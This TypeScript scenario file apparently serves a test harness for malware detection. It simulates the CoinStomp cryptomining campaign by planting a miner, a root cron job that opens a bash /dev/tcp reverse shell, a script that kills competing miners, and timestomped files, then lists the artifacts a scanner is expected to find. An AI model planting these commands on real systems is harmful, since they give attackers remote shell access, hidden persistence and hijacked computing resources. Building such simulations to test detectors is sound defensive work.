import type { Scenario } from '../types.js';
import { cronLine, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, timestomp, writeFile } from '../kit.js';

// Modelled on: Cado Security's CoinStomp report (2022), as summarised in "CoinStomp Malware Is
// Making The Rounds", https://itnerd.blog/2022/02/02/coinstomp-malware-is-making-the-rounds/, and
// the campaign record https://www.imtr.net/article/coinstomp-campaign-campaign-e935 (shell
// scripts on cloud instances, timestomping to hide new files, a /dev/tcp reverse shell in cron,
// killing competing miners, an XMRig miner).
const DIR = '/var/tmp/.cs';
const MINER = `${DIR}/ecs-agentd`;
const CLEAN = `${DIR}/c.sh`;

export const coinstomp: Scenario = {
  name: 'coinstomp',
  plan: (ctx) => {
    const argv = [MINER, '-o', stratum(ctx.pool, 14444)];
    const shell = `*/30 * * * * /bin/bash -c 'bash -i >& /dev/tcp/${ctx.pool}/4444 0>&1'`;
    const clean = `0 * * * * sh ${CLEAN} >/dev/null 2>&1`;
    const killer = ['#!/bin/sh', "ps aux | grep -E 'kdevtmpfsi|kinsing|xmrig|minerd' | grep -v grep | awk '{print $2}' | xargs kill -9", 'rm -rf /tmp/kdevtmpfsi /var/tmp/kinsing', ''].join('\n');
    return {
      family: 'coinstomp',
      plant: [
        installBinary('coinstomp', MINER),
        writeFile(CLEAN, killer, '755'),
        cronLine(shell),
        cronLine(clean),
        timestomp(MINER),
        timestomp(CLEAN),
        timestomp(DIR),
      ],
      start: [startProcess(argv)],
      artifacts: [
        processArtifact(argv, 'coinstomp', ctx.sha256('coinstomp'), 'miner', `${ctx.pool}:14444`),
        { kind: 'cron-line', path: ROOT_CRONTAB, line: shell },
        { kind: 'cron-line', path: ROOT_CRONTAB, line: clean },
        { kind: 'file', path: CLEAN, note: 'kills competing miners' },
      ],
      expectFindings: true,
      respawnSeconds: null,
      binaries: ['coinstomp'],
      sources: [
        { url: 'https://itnerd.blog/2022/02/02/coinstomp-malware-is-making-the-rounds/', title: 'CoinStomp Malware Is Making The Rounds' },
        { url: 'https://www.imtr.net/article/coinstomp-campaign-campaign-e935', title: 'CoinStomp campaign' },
      ],
    };
  },
};
